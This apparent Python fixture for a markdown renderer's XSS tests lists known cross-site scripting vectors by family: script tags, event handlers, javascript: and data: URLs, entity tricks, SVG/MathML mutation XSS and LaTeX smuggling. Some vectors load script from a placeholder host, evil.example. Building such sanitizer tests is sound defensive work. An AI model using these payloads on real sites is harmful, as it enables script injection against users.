"""Known XSS vectors, grouped by family, for tests/test_xss.py.

Collected from the OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat sheet, published
sanitizer bypasses (DOMPurify, Ammonia) and markdown-specific payload lists. Each is a short
markdown source a member could type into any markdown field. Raw HTML in markdown is shown as
text by the renderer, so the "math" families also try to smuggle it through latex2mathml, whose
output is markup (until library/rendering.py escaped its text, `\text{…}` really did pass raw
HTML through to the sanitizer).

No vector contains a NUL character: PostgreSQL refuses it in text columns, so it could not reach
a page anyway.
"""

from typing import NamedTuple


class Vector(NamedTuple):
    family: str
    source: str

    @property
    def name(self):
        return f"{self.family}: {self.source!r}"


B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="  # <svg onload>

FAMILIES = {
    "script tag": [
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",  # nested: a filter removing one level rebuilds it
        "<<script>script>alert(1)<</script>/script>",
        "<script>alert(1)",  # unclosed
        "<script src=//evil.example/x.js>",  # unclosed, external
        "<SCRIPT/XSS SRC=http://evil.example/xss.js></SCRIPT>",
        '<SCRIPT a=">" SRC="http://evil.example/xss.js"></SCRIPT>',
        "<script\n>alert(1)</script\n>",
        "</script><script>alert(1)</script>",
        "<script>alert(String.fromCharCode(88,83,83))</script>",
    ],
    "event handler": [
        "<img src=x onerror=alert(1)>",
        '<img src="x" onerror="alert(1)">',
        "<img/src/onerror=alert(1)>",  # slashes instead of spaces
        "<IMG SRC=x ONERROR=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<div onmouseover='alert(1)'>x</div>",
        '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',  # junk before = still names onload
        "<img src=`x`onerror=alert(1)>",
        "<a onclick=alert(1)>x</a>",
    ],
    "markdown link url": [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#x09;script:alert(1))",  # tab as a character reference
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
        "[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))",
        "[x](%6Aavascript:alert(1))",
        "[x](java\tscript:alert(1))",  # a real tab: URL parsers drop it
        "[x](java\rscript:alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "[x](\x01javascript:alert(1))",  # leading control character, stripped by URL parsers
        "[x](\x0ejavascript:alert(1))",
        "[x](&#x01;javascript:alert(1))",  # the same, as a reference the sanitizer decodes
        "[x](jav&Tab;ascript:alert(1))",
        "[x](javascript&NewLine;:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](javascript&colon;alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](javascript\\:alert(1))",
        "[x](javascript://%0Aalert(1))",
        "[x](javascript://example.com%0d%0aalert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](VBScript:msgbox(1))",
        "[x](livescript:alert(1))",
        f"[x](data:text/html;base64,{B64_SCRIPT})",
        "[x](data:text/html,<script>alert(1)</script>)",
        f"[x](DATA:text/html;base64,{B64_SCRIPT})",
        "[x]('javascript:alert(1)')",
        "[x](Javas&#99;ript:alert(1))",
        "[x](j a v a s c r i p t:alert(1))",
        "[<img src=x onerror=alert(1)>](https://example.com)",
    ],
    "markdown image url": [
        "![x](javascript:alert(1))",
        "![x](JAVASCRIPT:alert(1))",
        f"![x](data:image/svg+xml;base64,{B64_SVG})",
        f"![x](data:text/html;base64,{B64_SCRIPT})",
        "![x](vbscript:msgbox(1))",
        '![x](x" onerror="alert(1))',
        '![x](https://example.com/i.png"onload="alert(1))',
        '![x" onerror="alert(1)](x)',
        "![x'\"`onerror=alert(1)](x)",
        "![x](&#106;avascript:alert(1))",
    ],
    "reference-style link": [
        "[x][1]\n\n[1]: javascript:alert(1)",
        "![x][1]\n\n[1]: javascript:alert(1)",
        '[x][a]\n\n[a]: <javascript:alert(1)> "t"',
        "[x]\n\n[x]: vbscript:msgbox(1)",
        f"[x][d]\n\n[d]: data:text/html;base64,{B64_SCRIPT}",
        "[x][j]\n\n[j]: JaVa&#x09;ScRiPt:alert(1)",
        '[x][t]\n\n[t]: https://example.com "x\\" onmouseover=\\"alert(1)"',
    ],
    "autolink": [
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "<vbscript:msgbox(1)>",
        "<data:text/html,alert(1)>",
        '<http://example.com/" onmouseover="alert(1)>',
        "<https://example.com/'onmouseover=alert(1)>",
        '<x@example.com" onclick="alert(1)>',
        "https://example.com/?q=<script>alert(1)</script>",
    ],
    "link title": [
        '[x](https://example.com "onmouseover=alert(1)")',
        '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
        "[x](https://example.com 'x\" onmouseover=\"alert(1)')",
        '[x](https://example.com (x" onclick="alert(1)))',
        '[x](https://example.com "&quot; onmouseover=&quot;alert(1)")',
        '![x](https://example.com/i.png "x\\" onerror=\\"alert(1)")',
        '[x](https://example.com "a"onmouseover="alert(1))',
    ],
    "raw html element": [
        "<iframe src=javascript:alert(1)></iframe>",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "<object data=javascript:alert(1)></object>",
        '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/s.html"></OBJECT>',
        f'<embed src="data:image/svg+xml;base64,{B64_SVG}">',
        "<form action=javascript:alert(1)><input type=submit></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<isindex action=javascript:alert(1) type=image>",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<base href="javascript:alert(1)//">',
        '<link rel="import" href="http://evil.example/x.html">',
        '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<applet code=javascript:alert(1)></applet>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="jav&#x0A;ascript:alert(1)">x</a>',
        '<a href=" &#14;  javascript:alert(1)">x</a>',
        '<img srcset="javascript:alert(1) 1x">',
        "<video poster=javascript:alert(1)></video>",
        '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
        '<BODY BACKGROUND="javascript:alert(1)">',
        "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<template><script>alert(1)</script></template>",
        '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>',
    ],
    "style": [
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<style>@import 'javascript:alert(1)';</style>",
        '<div style="width:expression(alert(1))">x</div>',
        "<p style=\"background-image:url('javascript:alert(1)')\">x</p>",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        '<xss style="behavior:url(x.htc)">',
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    ],
    "svg and mutation xss": [
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<math href="javascript:alert(1)">x</math>',
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        '<!--<img src="--><img src=x onerror=alert(1)//">',
        "<![CDATA[<script>alert(1)</script>]]>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<title><img src=x onerror=alert(1)></title>",
    ],
    "entities and double encoding": [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "&#x3C;svg onload=alert(1)&#x3E;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "[x](&#x26;#106;avascript:alert(1))",
        "[x](&amp;#106;avascript:alert(1))",
        '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
    ],
    "math": [
        r"$\href{javascript:alert(1)}{x}$",
        r"$\href{JaVaScRiPt:alert(1)}{x}$",
        r"$\href{data:text/html,<script>alert(1)</script>}{x}$",
        r'$\href{x" onclick="alert(1)}{y}$',  # latex2mathml unescapes its output: attribute break-out
        r"$$\href{vbscript:msgbox(1)}{x}$$",
        r"$\url{javascript:alert(1)}$",
        r"$\style{background:url(javascript:alert(1))}{x}$",
        r'$\class{x" onclick="alert(1)}{y}$',
        r'$\color{red" onmouseover="alert(1)}{y}$',
        r"$\html{<script>alert(1)</script>}$",
        r"$\unicode{<script>}$",
        r"$\operatorname{<script>alert(1)</script>}$",
        r"$\mathrm{<svg/onload=alert(1)>}$",
    ],
    "math smuggling raw html": [
        # \text, \verb and friends pass their content through latex2mathml as markup.
        r"$\text{<script>alert(1)</script>}$",
        r"$\text{<img/src=x/onerror=alert(1)>}$",
        r"$\verb|<img src=x onerror=alert(1)>|$",
        r"$\texttt{<svg/onload=alert(1)>}$",
        r"$$\text{<iframe/src=javascript:alert(1)>}$$",
        r"$\mbox{<a/href=javascript:alert(1)>x</a>}$",
        r"$\text{</math><img/src=x/onerror=alert(1)>}$",
        r"$\text{<style>*{x:expression(alert(1))}</style>}$",
        r"$\verb|<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>|$",
        r"$\verb|<svg><script>alert(1)</script></svg>|$",
        r"$\verb|<mtext href=javascript:alert(1)>x</mtext>|$",
        r"$\verb|<mi xlink:href=javascript:alert(1)>x</mi>|$",
        r"$\verb|<form><button formaction=javascript:alert(1)>x</button></form>|$",
        r"$\verb|<a href=&#106;avascript:alert(1)>x</a>|$",
        r"$\verb|<mstyle style=x:expression(alert(1))>x</mstyle>|$",
        r"$\verb|<annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml>|$",
        r"$\verb|<semantics><annotation-xml encoding=text/html><script>alert(1)</script>|$",
    ],
    "attribute list": [
        # The attr_list extension is off; if it were on, these would set attributes.
        "[x](https://example.com){: onclick=alert(1)}",
        '# heading {: onclick="alert(1)"}',
        'para\n{: style="x:expression(alert(1))" }',
        "![x](https://example.com/i.png){: onerror=alert(1)}",
    ],
    "code": [
        "`<script>alert(1)</script>`",
        "```html\n<script>alert(1)</script>\n```",
        "    <img src=x onerror=alert(1)>",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "```js onload=alert(1)\nx\n```",  # info string lands in a class attribute
        '```x" onclick="alert(1)\nx\n```',
        "``</code><img src=x onerror=alert(1)>``",
    ],
}

VECTORS = [Vector(family, source) for family, sources in FAMILIES.items() for source in sources]
